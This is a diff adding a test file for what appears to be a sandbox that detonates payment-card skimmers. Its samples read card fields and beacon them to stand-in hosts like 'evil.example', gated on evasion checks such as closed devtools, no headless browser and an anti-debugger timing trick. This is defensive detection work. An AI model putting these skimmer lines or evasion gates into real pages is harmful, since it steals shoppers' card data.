@@ -1,0 +1,72 @@
+import type { Detonation } from '@tillwatch/core/detection'
+import { expect, it } from 'vitest'
+import { all, run, withCard } from './run.ts'
+
+/** Conditions, by a name that becomes a host, that hold in the first run already. */
+const atOnce: Record<string, string> = {
+  checkout: '/onepage|onestep|checkout/.test(location.href)',
+  'tools-closed': 'outerWidth - innerWidth < 160 && outerHeight - innerHeight < 160 && outerWidth > 0',
+  'no-robot': '!navigator.webdriver && !/headless/i.test(navigator.userAgent)',
+  'from-the-shop': 'document.referrer.indexOf(location.hostname) > 0',
+  shown: "!document.hidden && document.visibilityState === 'visible' && document.hasFocus()",
+  'working-day': 'new Date().getHours() >= 9 && new Date().getHours() < 18 && new Date().getDay() % 6 > 0',
+  'no-debugger': '(() => { const before = performance.now(); debugger; return performance.now() - before < 50 })()',
+}
+/** Those that need another visitor. */
+const forAnother: Record<string, string> = {
+  'weekend-night': 'new Date().getHours() < 6 && new Date().getDay() % 6 === 0',
+  phone: "/Mobile/.test(navigator.userAgent) && 'ontouchstart' in window && screen.width < 500",
+  'from-a-search': '/search/.test(document.referrer)',
+  spanish: "document.documentElement.lang === 'es' && /pedido|pago/.test(location.href)",
+}
+
+const skimmer = (conditions: Record<string, string>) =>
+  Object.entries(conditions)
+    .map(([name, test]) => `if (${test}) { ${withCard(`navigator.sendBeacon('https://${name}.example/', card)`)} }`)
+    .join('\n')
+const senders = (told: Detonation) =>
+  all(told, 'sends')
+    .map(({ to }) => to.replace('.example', ''))
+    .sort()
+
+it('meets at once what skimmers ask for before they act', async () => {
+  const told = await run(skimmer(atOnce))
+  expect(senders(told)).toEqual(Object.keys(atOnce).sort())
+  expect(all(told, 'sends').every(({ gate }) => gate === null)).toBe(true)
+})
+
+it('comes as another visitor where nothing was seen and the script asks who comes', async () => {
+  const told = await run(skimmer(forAnother))
+  expect(senders(told)).toEqual(Object.keys(forAnother).sort())
+  expect(all(told, 'sends').every(({ gate }) => gate?.startsWith('language:es, profile:mobile'))).toBe(true)
+})
+
+it('comes back where nothing was seen and the script keeps something', async () => {
+  const seen = '(() => { const seen = localStorage.seen; localStorage.seen = 1; return seen })()'
+  const told = await run(skimmer({ again: seen }))
+  expect(senders(told)).toEqual(['again'])
+  expect(all(told, 'sends')[0]?.gate).toBe('visitor:returning')
+})
+
+it('waits long enough in the page’s own time for what is put off, polled and sent from time to time', async () => {
+  const told = await run(`setTimeout(() => setInterval(() => {
+    const card = document.querySelector('[name="payment[cc_number]"]').value
+    if (card.length > 15) setTimeout(() => navigator.sendBeacon('https://evil.example/', card), 2500)
+  }, 1000), 4000)`)
+  expect(all(told, 'sends').length).toBe(1)
+})
+
+it('gives a script the fields and the button that it looks for and the shop has not', async () => {
+  const told = await run(`
+    const button = document.querySelector('#my-payment-button')
+    button && button.addEventListener('mousedown', () => {
+      navigator.sendBeacon('https://evil.example/', document.getElementById('acme_cc_number').value)
+    })
+    document.getElementById('acme_cc_number')`)
+  expect(all(told, 'sends').map(({ what, gate }) => [what, gate])).toEqual([['card', 'parts:asked']])
+})
+
+it('spares a script further runs that asks for nothing they could give', async () => {
+  const told = await run('document.title += "!"')
+  expect(told.gates.every((gate) => !/^(language:es|visitor|parts)/.test(gate))).toBe(true)
+})
